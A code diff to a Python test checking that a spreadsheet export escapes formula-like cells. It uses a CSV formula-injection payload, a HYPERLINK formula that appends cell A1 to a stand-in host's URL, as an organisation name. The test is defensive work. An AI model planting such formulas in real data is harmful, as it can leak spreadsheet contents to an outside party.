@@ -61,12 +61,13 @@ def test_the_export_writes_formulas_as_text(personas, client):
     export is opened in a spreadsheet; usernames may start with `@` or `-`. Such cells start with
     `'` in the export (issue 11 item 8); the rest of the row is as it was."""
     from accounts import services as accounts
+    from core.actors import SYSTEM
 
     formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
     org = personas.admin.organisation
     accounts.organisation_update(actor=personas.admin, organisation=org, name=formula, country=org.country,
                                  kind=org.kind)
-    user = accounts.user_create(actor=personas.admin, username="@sum", email="s@example.org",
+    user = accounts.user_create(actor=SYSTEM, username="@sum", email="s@example.org",
                                 organisation=org, roles=[])
     accounts.user_email_digest_set(actor=user, user=user, on=False)
     client.force_login(personas.admin)
